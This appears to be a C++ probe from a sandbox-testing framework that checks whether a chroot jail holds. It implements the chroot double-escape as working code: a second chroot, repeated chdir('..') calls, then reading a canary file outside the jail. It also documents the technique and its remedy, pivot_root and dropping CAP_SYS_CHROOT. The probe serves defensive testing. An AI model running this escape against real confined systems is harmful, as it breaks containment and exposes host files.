// chroot(2) moves the root of a process and leaves its working directory where it was. A process whose
// working directory lies above its root never meets that root on its way up, so nothing stops "..".

#include <errno.h>

#include "directory.h"
#include "probe.h"

namespace probe {

static void attack(const Order& order);

constinit const Probes probes = {{
    .id = "chroot-double-escape",
    .cls = "filesystem",
    .guarantee = "filesystem.root",
    .summary = "leave a chroot by a second one",
    .technique =
        "A process keeps its root and its working directory apart. chroot(2) into a subdirectory moves the "
        "root below the working directory, which stays behind and is now outside. \"..\" is refused only at "
        "the root itself, so from there it climbs to the root of the whole file system, and chroot(\".\") "
        "makes that the root again.",
    .references = {"chroot(2)", "https://attack.mitre.org/techniques/T1611/"},
    .attempts = {{"walk", {"EPERM", "no effect"}}},
    .witness = {"root"},
    .opening = {"root.method=chroot", "capabilities.keep+=cap_sys_chroot"},
    .remedy =
        "Change the root with pivot_root(2) in a mount namespace of its own and unmount the old one: then "
        "there is nothing above. Dropping CAP_SYS_CHROOT denies the second chroot as well.",
    .attack = attack,
}};

namespace {

Call change_root(std::string_view directory) {
  return {Text("chroot(", quoted(directory), ")"), sys(SYS_chroot, directory.data())};
}

/// Makes a directory of / the root. Where / has none one is made, and is gone again before this returns.
Call change_root_to_a_directory() {
  Call move{Text(), {-1, ENOENT}};
  Fd root(step("open(\"/\")", sys(SYS_openat, AT_FDCWD, "/", O_RDONLY | O_DIRECTORY | O_CLOEXEC)));
  if (root)
    each_entry(root, [&](const Entry& entry) {
      if (entry.type != DT_DIR && entry.type != DT_UNKNOWN) return false;
      move = change_root(entry.name);
      // Who may not enter a directory learns that first, and nothing of chroot(2).
      return move.result.error != EACCES && move.result.error != ENOTDIR;
    });
  if (move.result ||
      (move.result.error != ENOENT && move.result.error != EACCES && move.result.error != ENOTDIR))
    return move;

  const Text path = own_path("");
  const char* own = path.c_str() + 1;  // from the working directory, which stays what it was
  if (step(Text("mkdir(", quoted(own), ")"), sys(SYS_mkdirat, AT_FDCWD, own, 0700))) {
    move = change_root(own);
    step(Text("rmdir(", quoted(own), ")"), sys(SYS_unlinkat, AT_FDCWD, own, AT_REMOVEDIR));
    return move;
  }
  move = change_root("/");
  if (move.result) stop("chroot(2) is permitted, but / has no directory to change into");
  return move;
}

}  // namespace

static void attack(const Order& order) {
  const char* canary = order.text("canary");
  if (!step("chdir(\"/\")", sys(SYS_chdir, "/"))) stop("no way into /");

  Call down = change_root_to_a_directory();
  if (!down.result) {
    attempt("walk", down);
    return;
  }
  step(down);

  Result up;
  for (int level = 0; level < 64 && up; ++level) up = sys(SYS_chdir, "..");
  step("chdir(\"..\"), 64 times", up);
  Call out = change_root(".");
  if (!out.result) {
    attempt("walk", out);
    return;
  }
  step(out);

  Text call("open(", quoted(canary), ")");
  Result opened = sys(SYS_openat, AT_FDCWD, canary, O_RDONLY | O_CLOEXEC);
  if (opened.error == ENOENT || opened.error == ENOTDIR) {
    attempt("walk", call, "no effect");
    because("the second chroot passed, but there was nothing of the host above");
    return;
  }
  if (!attempt("walk", call, opened)) return;
  Fd file(opened);
  char content[200];
  Result size = step("read()", sys(SYS_read, file.get(), content, sizeof content));
  if (size) saw(std::string_view(content, static_cast<std::size_t>(size.value)));
}

}  // namespace probe
